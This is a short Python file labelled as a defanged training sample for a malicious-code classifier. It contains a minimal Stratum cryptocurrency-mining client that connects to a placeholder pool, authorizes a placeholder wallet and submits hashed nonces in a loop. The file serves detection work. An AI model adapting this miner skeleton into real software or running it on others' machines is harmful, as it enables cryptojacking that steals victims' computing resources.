# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import socket, json, hashlib, struct

POOL = ("pool.example.invalid", 3333)
WALLET = "4PLACEHOLDERWALLET"

s = socket.create_connection(POOL)
f = s.makefile("rw")
def call(method, params, i):
    f.write(json.dumps({"id": i, "method": method, "params": params}) + "\n")
    f.flush()
    return json.loads(f.readline())

call("mining.subscribe", ["cpuminer/2.5.1"], 1)
call("mining.authorize", [WALLET + ".rig1", "x"], 2)
while True:
    job = json.loads(f.readline())
    if job.get("method") != "mining.notify":
        continue
    header = bytes.fromhex(job["params"][1]) + struct.pack("<I", 0)
    for nonce in range(0, 1 << 20):
        h = hashlib.sha256(hashlib.sha256(header[:-4] + struct.pack("<I", nonce)).digest()).digest()
        if h.endswith(b"\x00\x00"):
            call("mining.submit", [WALLET, job["params"][0], nonce], 4)
            break
